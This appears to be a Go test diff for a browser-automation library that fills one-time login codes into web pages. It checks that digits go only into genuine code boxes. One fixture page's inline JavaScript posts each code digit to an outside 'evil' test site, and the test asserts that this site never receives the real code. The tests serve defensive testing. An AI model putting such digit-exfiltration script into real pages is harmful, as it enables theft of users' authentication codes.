@@ -1,12 +1,14 @@
 package page_test
 
 import (
+	"regexp"
 	"strings"
 	"testing"
 	"time"
 
 	"github.com/stretchr/testify/require"
 
+	"github.com/bctrl-go/bctrl"
 	"github.com/bctrl-go/bctrl/internal/browser"
 	"github.com/bctrl-go/bctrl/internal/browser/browsertest"
 )
@@ -82,6 +84,109 @@ func TestCodesAreFilledHoweverAPageTakesThem(t *testing.T) {
 			c.why)
 		require.True(t, s.RequestsTo("/code")[0].Body == c.want, c.why)
 	}
+}
+
+// TestSmallFieldsOfAnotherUseAreNoBoxesForACode aims a code at rows of fields that look like
+// boxes. No other field than the one that was named gets a digit.
+func TestSmallFieldsOfAnotherUseAreNoBoxesForACode(t *testing.T) {
+	ctx, p, b := openPage(t)
+	six := func(each string) string {
+		var out strings.Builder
+		for _, n := range "123456" {
+			out.WriteString(strings.ReplaceAll(each, "N", string(n)))
+		}
+		return out.String()
+	}
+	const small = ` aria-label=Field style="width:40px;height:30px"`
+	for _, c := range []struct {
+		why, page string
+		refused   bool
+	}{
+		{"quantities of one digit, a line each", six(`<p><input maxlength=1 name=aN` + small + `></p>`), true},
+		{"quantities of one digit in one line", six(`<input maxlength=1 name=qtyN` + small + `>`), true},
+		{"quantities of sizes, labelled beside them",
+			six(`<label>Quantity N <input maxlength=1 name=aN style="width:40px;height:30px"></label>`), true},
+		{"quantities in cells that are far apart",
+			`<table><tr>` + six(`<td style="width:150px"><input maxlength=1 name=aN`+small+`></td>`) + `</table>`, true},
+		{"quantities of two digits", six(`<input maxlength=2 name=aN` + small + `>`), true},
+		{"quantities that are numbers", six(`<input type=number min=0 max=99 name=aN` + small + `>`), false},
+		{"quantities that are there already", six(`<input name=aN value=10` + small + `>`), false},
+		{"more boxes than digits", six(`<input maxlength=1 name=aN`+small+`>`) + six(`<input maxlength=1 name=bN`+small+`>`),
+			true},
+		{"fewer boxes than digits", strings.Repeat(`<input maxlength=1 name=a`+small+`>`, 4), true},
+		{"day, month, year, hour, minute, second",
+			`<input name=day` + small + `><input name=month` + small + `><input name=year` + small + `>` +
+				`<input name=hour` + small + `><input name=minute` + small + `><input name=second` + small + `>`, false},
+		{"a date by its hints", strings.Repeat(`<input placeholder=DD maxlength=1`+small+`>`, 6), true},
+		{"a card's expiry", `<input maxlength=2 name=mm` + small + `><input maxlength=2 name=yy` + small + `>`, true},
+		{"a card's number and expiry", strings.Repeat(`<input autocomplete=cc-number`+small+`>`, 4) +
+			strings.Repeat(`<input autocomplete=cc-exp`+small+`>`, 2), false},
+		{"ratings", six(`<input type=number max=10 name=scoreN` + small + `>`), false},
+	} {
+		s := browsertest.NewSite(t, map[string]string{"/": `<form method=post>` + c.page + `</form>`})
+		obs := browsertest.Open(ctx, t, p, s.URL+"/")
+		fill := browsertest.Login("totp", "048151", s.URL)
+		fill.Direct = true // what the page holds is the code's own
+		err := p.Fill(ctx, obs.Elements[0].Ref, fill)
+		values := strings.Split(browsertest.InputValues(ctx, t, b), "\n")[:strings.Count(c.page, "<input")]
+		if c.refused {
+			refusal := new(bctrl.Error)
+			require.ErrorAs(t, err, &refusal, c.why)
+			require.Contains(t, []string{"vault.fill_impossible", "page.not_typed"}, refusal.Code, c.why)
+		} else if err == nil {
+			values = values[1:]
+		}
+		for _, held := range values {
+			require.True(t, held == "" || held == "10", "%s: another field has got a digit", c.why)
+		}
+	}
+}
+
+// TestEachDigitThatLeavesAloneIsTheCodes has a page send each box in a request of its own, as
+// it is typed or afterwards, in forms, JSON and parts.
+func TestEachDigitThatLeavesAloneIsTheCodes(t *testing.T) {
+	ctx, p, b := openPage(t)
+	evil := browsertest.NewSite(t, nil)
+	const code = "048151"
+	row := `<form id=f>` + strings.Repeat(`<input class=d maxlength=1 aria-label=Digit>`, 6) +
+		`<button>Verify</button></form><script>const all = [...document.querySelectorAll('.d')];
+		all.forEach((d, i) => { d.name = 'd' + i }); const each = send => f.onsubmit = async e => { e.preventDefault();
+		for (const d of all) await send(d) }; const post = (body, to = '/digit') => fetch(to, {method: 'POST', body});`
+	for _, c := range []struct{ why, script string }{
+		{"a form", `each(d => post(new URLSearchParams({[d.name]: d.value})))`},
+		{"JSON", `each(d => post(JSON.stringify({[d.name]: d.value})))`},
+		{"JSON with a number", `each(d => post(JSON.stringify({step: {[d.name]: Number(d.value)}})))`},
+		{"parts", `each(d => { const data = new FormData(); data.append(d.name, d.value); return post(data) })`},
+		{"as it is typed", `all.forEach(d => d.oninput = () => d.value && post(new URLSearchParams({[d.name]: d.value})))`},
+		{"to another site as well", `each(async d => { await post(new URLSearchParams({[d.name]: d.value}));
+			await post(new URLSearchParams({[d.name]: d.value}), '` + evil.URL + `/digit').catch(() => 0) })`},
+	} {
+		s := browsertest.NewSite(t, map[string]string{"/": row + c.script + `</script>`, "/digit": "ok"})
+		obs := browsertest.Open(ctx, t, p, s.URL+"/")
+		require.NoError(t, p.Fill(ctx, obs.Elements[0].Ref, browsertest.Login("totp", code, s.URL)), c.why)
+		held := strings.Join(strings.SplitN(browsertest.InputValues(ctx, t, b), "\n", 7)[:6], "")
+		require.Len(t, held, 6)
+		require.NotEqual(t, code, held)
+		require.NoError(t, p.Click(ctx, browsertest.Find(t, obs, "button", "Verify").Ref, browser.Click{}), c.why)
+		require.Eventually(t, func() bool { return len(s.RequestsTo("/digit")) == 6 }, 10*time.Second, 10*time.Millisecond,
+			c.why)
+		require.True(t, digitsOf(s.RequestsTo("/digit")) == code, c.why)
+		requireHidden(ctx, t, p, b, code)
+	}
+	require.Eventually(t, func() bool { return len(evil.RequestsTo("/digit")) == 6 }, 10*time.Second, 10*time.Millisecond)
+	require.False(t, digitsOf(evil.RequestsTo("/digit")) == code, "another site gets what stands for it")
+}
+
+// digitsOf joins the digits of requests for "d0" to "d5", by these names.
+func digitsOf(requests []browsertest.Received) string {
+	name := regexp.MustCompile(`d(\d)\D+(\d)`)
+	digits := make([]byte, 6)
+	for _, r := range requests {
+		if found := name.FindStringSubmatch(r.Body); found != nil {
+			digits[found[1][0]-'0'] = found[2][0]
+		}
+	}
+	return string(digits)
 }
 
 // TestAUsernameMayBeWrittenInAnotherWay fills a username that the page makes upper case.
